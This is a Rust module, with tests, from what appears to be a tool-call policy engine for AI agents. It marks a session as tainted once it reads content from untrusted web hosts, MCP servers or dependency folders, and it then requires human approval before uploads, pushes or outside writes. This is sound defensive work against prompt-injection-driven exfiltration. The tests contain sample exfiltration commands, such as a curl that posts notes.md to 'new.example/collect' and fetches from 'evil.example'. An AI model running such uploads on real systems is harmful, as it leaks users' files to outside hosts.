//! Session taint: what brings untrusted content into a session, and what a session holding it
//! may not do without asking.
//!
//! A call's *result* may carry words an attacker wrote: a page fetched from a host the policy
//! does not trust, a tool result from an MCP server the policy does not trust, a file read from
//! outside the workspace or from a place the policy marks untrusted (a downloaded dependency).
//! Once such a result is in a session ([`Policy::note_result`]), the session is tainted, with
//! the source. While it is, what would send something out — a host the session had not reached
//! before it was tainted, a push, a write outside the workspace and the scratch places (as
//! `[taint] restrict` says) — asks, naming the result that tainted the session
//! ([`Policy::under_taint`]); a person clears the taint once they have looked.
//!
//! The policy holds what taints and what a taint restricts; the session's state
//! ([`SessionTaint`]) is kept by whoever keeps the session (the daemon).

use std::collections::BTreeSet;
use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::call::Call;
use crate::decision::{Access, Choice, Decision, Layer, string_enum};
use crate::evaluation::Evaluation;
use crate::policy::Policy;
use crate::resource::matchers::{PathGlob, PathMatcher};
use crate::resource::url::DomainPattern;
use crate::subject::{OutsidePlace, Subject};

string_enum! {
    /// What a tainted session may not do without asking (`[taint] restrict`).
    pub enum Restriction ("taint restriction") {
        /// Reach a host it had not reached before it was tainted (a fetch, an upload, a
        /// network command whose destination toolgate cannot read).
        Network = "network",
        /// Push or publish (`git push`, `npm publish`, `cargo publish`, …).
        Pushes = "pushes",
        /// Write outside the workspace and the scratch places.
        Writes = "writes",
    }
}

string_enum! {
    /// What kind of result tainted a session.
    pub enum TaintKind ("taint kind") {
        /// Something fetched from a host the policy does not trust.
        Fetch = "fetch",
        /// A tool result from an MCP server the policy does not trust.
        Server = "server",
        /// A file read outside the workspace, or in a place the policy marks untrusted.
        File = "file",
    }
}

/// Where downloaded code lives, untrusted by default (`[taint] untrusted_paths` adds more).
pub const DEFAULT_UNTRUSTED_PATHS: &[&str] = &[
    "**/node_modules/**",
    "**/site-packages/**",
    "**/dist-packages/**",
    "~/.cargo/registry/**",
    "~/.cargo/git/**",
    "~/go/pkg/mod/**",
    "~/.m2/repository/**",
    "~/.gradle/caches/**",
];

/// `[taint]`, merged over the policy's files (the stricter wins: a switch one file turns on
/// stays on; the lists are joined).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TaintSettings {
    /// Whether results taint sessions at all.
    pub enabled: bool,
    /// Hosts whose content does not taint (`docs.rs`, `*.python.org`), as written.
    pub trusted_domains: Vec<String>,
    /// Places whose files taint when read, even inside the workspace, as written (the
    /// defaults, [`DEFAULT_UNTRUSTED_PATHS`], then the policy's).
    pub untrusted_paths: Vec<String>,
    /// Whether a read outside the workspace and the scratch places taints.
    pub read_outside: bool,
    /// What a tainted session may not do without asking.
    pub restrict: Vec<Restriction>,
}

impl Default for TaintSettings {
    fn default() -> TaintSettings {
        TaintSettings {
            enabled: true,
            trusted_domains: Vec::new(),
            untrusted_paths: DEFAULT_UNTRUSTED_PATHS.iter().map(|&p| p.into()).collect(),
            read_outside: true,
            restrict: Restriction::ALL.to_vec(),
        }
    }
}

/// One file's `[taint]`, before the files are merged.
#[derive(Clone, Debug, Default)]
pub(crate) struct TaintFile {
    pub(crate) enabled: Option<bool>,
    pub(crate) trusted_domains: Vec<String>,
    pub(crate) untrusted_paths: Vec<String>,
    pub(crate) read_outside: Option<bool>,
    pub(crate) restrict: Option<Vec<Restriction>>,
}

impl TaintSettings {
    /// The files' `[taint]` tables merged: a switch is on when any file that sets it turns it
    /// on (off only when every file that sets it turns it off; the default when none does);
    /// the lists are joined.
    pub(crate) fn merge(files: &[TaintFile]) -> TaintSettings {
        let mut out = TaintSettings::default();
        let switch = |get: fn(&TaintFile) -> Option<bool>, default: bool| {
            let set: Vec<bool> = files.iter().filter_map(get).collect();
            if set.is_empty() {
                default
            } else {
                set.contains(&true)
            }
        };
        out.enabled = switch(|f| f.enabled, true);
        out.read_outside = switch(|f| f.read_outside, true);
        let restricts: Vec<&Vec<Restriction>> =
            files.iter().filter_map(|f| f.restrict.as_ref()).collect();
        if !restricts.is_empty() {
            out.restrict = Restriction::ALL
                .iter()
                .copied()
                .filter(|r| restricts.iter().any(|list| list.contains(r)))
                .collect();
        }
        for file in files {
            for domain in &file.trusted_domains {
                if !out.trusted_domains.contains(domain) {
                    out.trusted_domains.push(domain.clone());
                }
            }
            for path in &file.untrusted_paths {
                if !out.untrusted_paths.contains(path) {
                    out.untrusted_paths.push(path.clone());
                }
            }
        }
        out
    }
}

/// The taint settings, compiled.
#[derive(Debug)]
pub(crate) struct Taint {
    trusted: Vec<DomainPattern>,
    untrusted: PathMatcher,
}

impl Taint {
    pub(crate) fn new(settings: &TaintSettings, home: Option<&Path>) -> Taint {
        Taint {
            trusted: settings
                .trusted_domains
                .iter()
                .filter_map(|d| DomainPattern::new(d).ok())
                .collect(),
            untrusted: PathMatcher::new(
                settings
                    .untrusted_paths
                    .iter()
                    .filter_map(|p| PathGlob::new(p, home).ok())
                    .collect(),
            ),
        }
    }
}

/// One result that tainted a session.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaintSource {
    /// What kind of result.
    pub kind: TaintKind,
    /// The tool that brought it.
    pub tool: String,
    /// What it came from: the URL, the file, the server.
    pub what: String,
    /// When it came (as the session's keeper writes times).
    pub at: String,
    /// The tool call whose result it was, when known.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub call_id: Option<String>,
}

impl std::fmt::Display for TaintSource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self.kind {
            TaintKind::Fetch => write!(
                f,
                "`{}` fetched {}, from a host the policy does not trust",
                self.tool, self.what
            ),
            TaintKind::Server => write!(
                f,
                "`{}` answered from MCP server `{}`, which the policy does not trust",
                self.tool, self.what
            ),
            TaintKind::File => write!(
                f,
                "`{}` read {}, outside the workspace or in a place marked untrusted",
                self.tool, self.what
            ),
        }
    }
}

/// The most sources a session keeps (the first ones: what tainted it).
pub const MAX_TAINT_SOURCES: usize = 16;

/// The most hosts a session remembers reaching.
pub const MAX_REACHED: usize = 256;

/// What a session's results brought into it: the sources that tainted it, and the hosts it
/// reached before it was tainted.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionTaint {
    /// What tainted it, in order (none: it is not tainted).
    #[serde(default)]
    pub sources: Vec<TaintSource>,
    /// The hosts it reached while it was not tainted.
    #[serde(default)]
    pub reached: BTreeSet<String>,
}

impl SessionTaint {
    /// Whether the session holds untrusted content.
    pub fn is_tainted(&self) -> bool {
        !self.sources.is_empty()
    }
}

/// What a call's result does to its session's taint ([`Policy::result_effect`]).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ResultEffect {
    /// The untrusted content it brings: its kind, and what it came from.
    pub taint: Option<(TaintKind, String)>,
    /// The hosts it reached.
    pub reached: Vec<String>,
}

impl ResultEffect {
    /// Applies it to a session's taint: a result that brings untrusted content taints the
    /// session (`tool` brought it, at `at`, in call `call_id`); one that does not, while the
    /// session is untainted, adds the hosts it reached. Whether anything changed.
    pub fn apply(
        &self,
        taint: &mut SessionTaint,
        tool: &str,
        at: &str,
        call_id: Option<&str>,
    ) -> bool {
        if let Some((kind, what)) = &self.taint {
            let known = taint
                .sources
                .iter()
                .any(|s| s.kind == *kind && s.what == *what);
            if known || taint.sources.len() >= MAX_TAINT_SOURCES {
                return false;
            }
            taint.sources.push(TaintSource {
                kind: *kind,
                tool: tool.to_owned(),
                what: what.clone(),
                at: at.to_owned(),
                call_id: call_id.map(str::to_owned),
            });
            return true;
        }
        if taint.is_tainted() {
            return false;
        }
        let mut changed = false;
        for host in &self.reached {
            if taint.reached.len() < MAX_REACHED {
                changed |= taint.reached.insert(host.clone());
            }
        }
        changed
    }
}

impl Policy {
    /// The policy's `[taint]`.
    pub fn taint_settings(&self) -> &TaintSettings {
        &self.settings.taint
    }

    /// What a result of `call` brings into its session when it is untrusted content: the
    /// kind, and what it came from. `None` when it brings nothing untrusted (or taint is off).
    pub fn taint_of(&self, call: &Call) -> Option<(TaintKind, String)> {
        self.result_effect(call).taint
    }

    /// What a result of `call` does to its session's taint, read from the call once: the
    /// untrusted content it brings, if any, and the hosts it reached. Apply it with
    /// [`ResultEffect::apply`] to the taint as it stands (again, when a save must be retried).
    pub fn result_effect(&self, call: &Call) -> ResultEffect {
        let settings = &self.settings.taint;
        let mut effect = ResultEffect::default();
        if !settings.enabled || crate::eval::validate(call).is_err() {
            return effect;
        }
        if let Some(server) = &call.context.server
            && !call.context.trusted_server
        {
            effect.taint = Some((TaintKind::Server, server.clone()));
            return effect;
        }
        for subject in self.prepare(call).subjects {
            match subject {
                Subject::Url(url) if !url.mentioned => {
                    let Some(checked) = url.checked else {
                        continue;
                    };
                    let trusted = self.taint.trusted.iter().any(|d| d.is_match(&checked.host));
                    if !trusted && effect.taint.is_none() {
                        effect.taint = Some((TaintKind::Fetch, checked.url.clone()));
                    }
                    effect.reached.push(checked.host);
                }
                Subject::Path(path)
                    if effect.taint.is_none()
                        && path.access == Access::Read
                        && !path.role.is_mention() =>
                {
                    let Some(resolved) = &path.resolved else {
                        continue;
                    };
                    let outside =
                        resolved.root.is_none() && path.place != Some(OutsidePlace::Scratch);
                    let untrusted = resolved
                        .readings()
                        .any(|p| self.taint.untrusted.is_match(p, &[], false));
                    if (settings.read_outside && outside) || untrusted {
                        effect.taint =
                            Some((TaintKind::File, resolved.resolved.display().to_string()));
                    }
                }
                _ => {}
            }
        }
        effect
    }

    /// Notes the result of `call` in its session's taint (`at`: when; `call_id`: the call's
    /// id, when known): [`Policy::result_effect`], applied. Whether anything changed.
    pub fn note_result(
        &self,
        taint: &mut SessionTaint,
        call: &Call,
        at: &str,
        call_id: Option<&str>,
    ) -> bool {
        self.result_effect(call)
            .apply(taint, &call.tool, at, call_id)
    }

    /// `evaluation` (of a call in a session with this taint) under the taint: an allow that
    /// would send something out, as `[taint] restrict` says, becomes an ask (layer `taint`)
    /// whose reason names what tainted the session; it offers only "once" answers (a grant
    /// would outlast the look a person takes). Anything else is returned as it is.
    pub fn under_taint(&self, mut evaluation: Evaluation, taint: &SessionTaint) -> Evaluation {
        let settings = &self.settings.taint;
        if !settings.enabled || !taint.is_tainted() || evaluation.decision != Decision::Allow {
            return evaluation;
        }
        let Some((index, egress)) = self.egress(&evaluation, taint) else {
            return evaluation;
        };
        let Some(first) = taint.sources.first() else {
            return evaluation;
        };
        let more = match taint.sources.len() {
            1 => String::new(),
            n => format!(" and {} more", n - 1),
        };
        evaluation.decision = Decision::Ask;
        evaluation.layer = Layer::Taint;
        evaluation.reason = format!(
            "this session holds untrusted content ({first}{more}); while it does, {egress} \
             asks (a person can clear the taint on the approval page)"
        )
        .into();
        let mut details =
            self.ask_details(None, evaluation.subjects.get(index).map(|o| &o.subject));
        let once: Vec<Choice> = details
            .choices
            .iter()
            .copied()
            .filter(|c| !c.is_always())
            .collect();
        details.choices = if once.iter().any(|c| c.allows()) && once.iter().any(|c| !c.allows()) {
            once.into()
        } else {
            [Choice::AllowOnce, Choice::RejectOnce].into()
        };
        evaluation.ask = Some(details);
        evaluation
    }

    /// The first subject of an evaluation that sends something out as the taint restricts,
    /// and what it does, in words.
    fn egress(&self, evaluation: &Evaluation, taint: &SessionTaint) -> Option<(usize, String)> {
        let restrict = &self.settings.taint.restrict;
        let network = restrict.contains(&Restriction::Network);
        let urls = evaluation
            .subjects
            .iter()
            .any(|o| matches!(&o.subject, Subject::Url(u) if !u.mentioned));
        for (index, outcome) in evaluation.subjects.iter().enumerate() {
            let found = match &outcome.subject {
                Subject::Url(url) if network && !url.mentioned => match &url.checked {
                    Some(checked) if !taint.reached.contains(&checked.host) => Some(format!(
                        "reaching `{}`, a host the session had not reached before",
                        checked.host
                    )),
                    Some(_) => None,
                    None => Some(format!("reaching {}", url.given)),
                },
                Subject::Command(command) => {
                    let reading = command.command.reading.as_ref();
                    let pushes = reading.is_some_and(|r| {
                        r.acts.contains(&"push") || r.subcommands.contains(&"publish")
                    });
                    if pushes && restrict.contains(&Restriction::Pushes) {
                        Some(format!("a push (`{}`)", command.command.text))
                    } else if network && command.command.network && !urls {
                        Some(format!(
                            "`{}`, which talks to the network",
                            command.command.text
                        ))
                    } else {
                        None
                    }
                }
                Subject::Path(path)
                    if restrict.contains(&Restriction::Writes)
                        && path.access == Access::Write
                        && path.place != Some(OutsidePlace::Scratch)
                        && path.resolved.as_ref().is_some_and(|r| r.root.is_none()) =>
                {
                    Some(format!(
                        "a write outside the workspace ({})",
                        outcome.subject.resource().unwrap_or_default()
                    ))
                }
                _ => None,
            };
            if let Some(found) = found {
                return Some((index, found));
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const RULES: &str = r#"
version = 1

[[rule]]
name = "web"
decision = "allow"
tool = ["WebFetch", "Read", "Write", "mcp_search"]

[[rule]]
name = "commands"
decision = "allow"
command = ["curl", "git push", "cat", "scp"]

[[rule]]
name = "hosts"
decision = "allow"
domain = ["*.example"]
"#;

    fn policy(taint: &str) -> Policy {
        Policy::from_toml("p.toml", &format!("{RULES}\n{taint}")).unwrap()
    }

    fn workspace() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("node_modules/left-pad")).unwrap();
        std::fs::write(dir.path().join("notes.md"), "notes").unwrap();
        std::fs::write(dir.path().join("node_modules/left-pad/README.md"), "x").unwrap();
        dir
    }

    fn call(tool: &str, args: serde_json::Value, ws: &Path) -> Call {
        Call::from_value(json!({"tool": tool, "args": args,
                                "context": {"workspace": ws, "session": "s"}}))
        .unwrap()
    }

    fn bash(command: &str, ws: &Path) -> Call {
        call("Bash", json!({"command": command}), ws)
    }

    #[test]
    fn what_a_result_brings_in() {
        let dir = workspace();
        let ws = dir.path();
        let policy = policy("[taint]\ntrusted_domains = [\"docs.rs\", \"*.python.org\"]\n");
        let fetch = |url: &str| call("WebFetch", json!({"url": url, "prompt": "p"}), ws);
        assert_eq!(
            policy.taint_of(&fetch("https://evil.example/page")),
            Some((TaintKind::Fetch, "https://evil.example/page".into()))
        );
        assert_eq!(policy.taint_of(&fetch("https://docs.rs/serde")), None);
        assert_eq!(policy.taint_of(&fetch("https://docs.python.org/3/")), None);
        // `curl URL` brings the page in too; a URL only mentioned does not.
        assert_eq!(
            policy
                .taint_of(&bash("curl -s https://evil.example/x", ws))
                .map(|t| t.0),
            Some(TaintKind::Fetch)
        );
        assert_eq!(
            policy.taint_of(&bash("echo https://evil.example/x", ws)),
            None
        );
        // Files: inside the workspace, no; a dependency inside it, yes; outside it, yes.
        let read = |path: &str| call("Read", json!({"file_path": path}), ws);
        assert_eq!(
            policy.taint_of(&read(&format!("{}/notes.md", ws.display()))),
            None
        );
        let dependency = format!("{}/node_modules/left-pad/README.md", ws.display());
        assert_eq!(
            policy.taint_of(&read(&dependency)).map(|t| t.0),
            Some(TaintKind::File)
        );
        assert_eq!(
            policy.taint_of(&read("/etc/hostname")).map(|t| t.0),
            Some(TaintKind::File)
        );
        let quiet = self::policy("[taint]\nread_outside = false\n");
        assert_eq!(quiet.taint_of(&read("/etc/hostname")), None);
        assert!(quiet.taint_of(&read(&dependency)).is_some());
        // An MCP server's result: untrusted unless the gateway says the policy trusts it.
        let from = |trusted: bool| {
            Call::from_value(json!({"tool": "mcp_search", "args": {"q": "x"},
                "context": {"server": "web", "trusted_server": trusted}}))
            .unwrap()
        };
        assert_eq!(
            policy.taint_of(&from(false)),
            Some((TaintKind::Server, "web".into()))
        );
        assert_eq!(policy.taint_of(&from(true)), None);
        // Off.
        let off = self::policy("[taint]\nenabled = false\n");
        assert_eq!(off.taint_of(&fetch("https://evil.example/page")), None);
    }

    #[test]
    fn a_tainted_session_asks_before_sending_out() {
        let dir = workspace();
        let ws = dir.path();
        let policy = policy("[taint]\ntrusted_domains = [\"api.example\"]\n");
        let mut taint = SessionTaint::default();
        // Before the taint: the session reaches api.example (trusted: its answer taints
        // nothing).
        assert!(policy.note_result(
            &mut taint,
            &bash("curl https://api.example/v1", ws),
            "t0",
            None
        ));
        assert!(taint.reached.contains("api.example"));
        let upload = bash("curl -d @notes.md https://new.example/collect", ws);
        let evaluation = policy.evaluate(&upload);
        assert_eq!(evaluation.decision, Decision::Allow);
        // Untainted: as the policy says.
        let same = policy.under_taint(evaluation.clone(), &taint);
        assert_eq!(same, evaluation);
        // A fetched page taints it.
        let page = call(
            "WebFetch",
            json!({"url": "https://evil.example/page", "prompt": "p"}),
            ws,
        );
        assert!(policy.note_result(&mut taint, &page, "t1", Some("call-1")));
        assert!(
            !policy.note_result(&mut taint, &page, "t2", None),
            "known already"
        );
        assert_eq!(taint.sources[0].call_id.as_deref(), Some("call-1"));
        let asked = policy.under_taint(evaluation, &taint);
        assert_eq!((asked.decision, asked.layer), (Decision::Ask, Layer::Taint));
        assert!(
            asked
                .reason
                .contains("`WebFetch` fetched https://evil.example/page")
                && asked.reason.contains("`new.example`"),
            "{}",
            asked.reason
        );
        let choices = &asked.ask.as_ref().unwrap().choices;
        assert!(choices.iter().all(|c| !c.is_always()), "{choices:?}");
        // Hosts reached after the taint are not remembered; one reached before still passes.
        policy.note_result(
            &mut taint,
            &bash("curl https://other.example/", ws),
            "t3",
            None,
        );
        assert!(!taint.reached.contains("other.example"));
        let known = policy.evaluate(&bash("curl -d @notes.md https://api.example/v1", ws));
        assert_eq!(policy.under_taint(known, &taint).decision, Decision::Allow);
        // Pushes and network commands without a URL ask; a plain read does not.
        for command in ["git push origin main", "scp notes.md host:/tmp/"] {
            let e = policy.under_taint(policy.evaluate(&bash(command, ws)), &taint);
            assert_eq!(e.decision, Decision::Ask, "{command}: {}", e.reason);
        }
        let e = policy.under_taint(policy.evaluate(&bash("cat notes.md", ws)), &taint);
        assert_eq!(e.decision, Decision::Allow);
        // What is restricted is the policy's to say.
        let pushes_only = self::policy("[taint]\nrestrict = [\"pushes\"]\n");
        // (A fetch from an untrusted host taints by itself: nothing is reached then.)
        let mut fresh = SessionTaint::default();
        assert!(pushes_only.note_result(
            &mut fresh,
            &bash("curl https://api.example/v1", ws),
            "t",
            None
        ));
        assert!(fresh.is_tainted() && fresh.reached.is_empty());
        let e = pushes_only.under_taint(pushes_only.evaluate(&upload), &taint);
        assert_eq!(e.decision, Decision::Allow);
        let e = pushes_only.under_taint(pushes_only.evaluate(&bash("git push", ws)), &taint);
        assert_eq!(e.decision, Decision::Ask);
    }

    #[test]
    fn taint_settings_load_merge_and_refuse_mistakes() {
        let merged = Policy::load(
            vec![
                crate::PolicySource::given(
                    "a.toml",
                    "version = 1\n[taint]\nenabled = false\nrestrict = [\"pushes\"]\ntrusted_domains = [\"docs.rs\"]\n",
                ),
                crate::PolicySource::given(
                    "b.toml",
                    "version = 1\n[taint]\nenabled = true\nrestrict = [\"writes\"]\nuntrusted_paths = [\"~/Downloads/**\"]\n",
                ),
            ],
            crate::LoadOptions::default(),
        )
        .unwrap();
        let settings = merged.taint_settings();
        assert!(settings.enabled, "one file turning it on keeps it on");
        assert_eq!(
            settings.restrict,
            [Restriction::Pushes, Restriction::Writes]
        );
        assert_eq!(settings.trusted_domains, ["docs.rs"]);
        assert!(
            settings
                .untrusted_paths
                .iter()
                .any(|p| p == "~/Downloads/**")
        );
        assert!(
            settings
                .untrusted_paths
                .iter()
                .any(|p| p == "**/node_modules/**")
        );
        for (text, says) in [
            (
                "[taint]\nrestrict = [\"email\"]\n",
                "unknown taint restriction `email`",
            ),
            (
                "[taint]\ntrusted_domains = [\"https://x/\"]\n",
                "is not a domain",
            ),
            (
                "[taint]\nuntrusted_paths = [\"vendor/**\"]\n",
                "says no place",
            ),
            ("[taint]\ntrusted = [\"x\"]\n", "trusted_domains"),
            ("[taint]\nenabled = \"yes\"\n", "enabled"),
        ] {
            let error = Policy::from_toml("p.toml", &format!("version = 1\n{text}"))
                .unwrap_err()
                .to_string();
            assert!(
                error.contains(says) && error.contains("p.toml:"),
                "{text}: {error}"
            );
        }
    }
}
